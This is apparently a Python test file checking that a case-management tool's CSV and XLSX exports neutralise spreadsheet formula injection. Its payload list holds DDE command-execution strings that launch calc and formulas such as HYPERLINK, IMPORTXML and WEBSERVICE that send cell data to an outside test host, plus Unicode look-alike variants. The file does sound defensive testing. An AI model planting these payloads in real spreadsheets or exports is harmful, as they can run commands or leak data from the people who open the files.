"""What leaves as CSV or XLSX can never run as a formula."""

import csv
import io
import unicodedata
import zipfile
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from casemgmt.tables.reading import read_table
from casemgmt.tables.writing import PLAIN_NUMBER, csv_bytes, escaped, unescaped, xlsx_bytes

BODIES = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.test/?"&A1,"open")',
    '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
    '=WEBSERVICE("http://x.test")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "⁼1+1",
]
LEADS = ["", "\r\n", *" \t\r\n\ufeff\u200b\u00a0\u3000\x01\x1f\u2028\u200e"]
ODD = ["=\u0338 1", "-", "=", "'=1", "''=1", "+15415550100"]
PAYLOADS = [lead + body for body in BODIES for lead in LEADS] + ODD


def first_significant(text):
    folded = (part for character in text for part in unicodedata.normalize("NFKC", character))
    return next((c for c in folded if unicodedata.category(c)[0] not in "ZC"), " ")


def cells_of(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_starts_a_formula_in_a_csv_cell_or_header(payload):
    for row in cells_of(csv_bytes([payload], [[payload]])):
        assert first_significant(row[0]) not in "=+-@|%"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_guarded_text_reads_back_as_it_was(payload):
    assert unescaped(escaped(payload)) == payload


@settings(deadline=None)
@given(st.text())
def test_any_text_survives_the_guard_and_never_starts_a_formula(text):
    assert unescaped(escaped(text)) == text
    assert PLAIN_NUMBER.fullmatch(text) or first_significant(escaped(text)) not in "=+-@|%"


def test_plain_numbers_stay_numbers():
    rows = cells_of(csv_bytes(["n"], [[-5], ["-5"], ["12.50"], [0.25], [None]]))
    assert [row[0] for row in rows[1:]] == ["-5", "-5", "12.50", "0.25", ""]


def test_no_xlsx_cell_is_a_formula_and_its_text_is_unchanged():
    data = xlsx_bytes(["=1+1"], [[payload] for payload in PAYLOADS])
    book = load_workbook(io.BytesIO(data))
    kinds = {cell.data_type for row in book.active.iter_rows() for cell in row}
    assert kinds == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        assert b"<f>" not in packed.read("xl/worksheets/sheet1.xml")


def test_xlsx_keeps_numbers_and_writes_instants_as_text():
    data = xlsx_bytes(["a", "b", "c"], [[7, float("nan"), datetime(2025, 5, 12, 13, 0, tzinfo=UTC)]])
    row = [cell.value for cell in list(load_workbook(io.BytesIO(data)).active.rows)[1]]
    assert row == [7, "nan", "2025-05-12T13:00:00+00:00"]


letters = st.characters(blacklist_categories=("Cs", "Cc"))
word = st.text(letters, min_size=1).filter(lambda text: text.strip() == text)


@settings(deadline=None)
@given(st.lists(st.lists(word, min_size=2, max_size=2), min_size=1, max_size=8))
def test_a_written_csv_reads_back_cell_by_cell(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("csv") / "out.csv"
    path.write_bytes(csv_bytes(["one", "two"], rows))
    assert [list(row.cells.values()) for row in read_table(path)] == rows
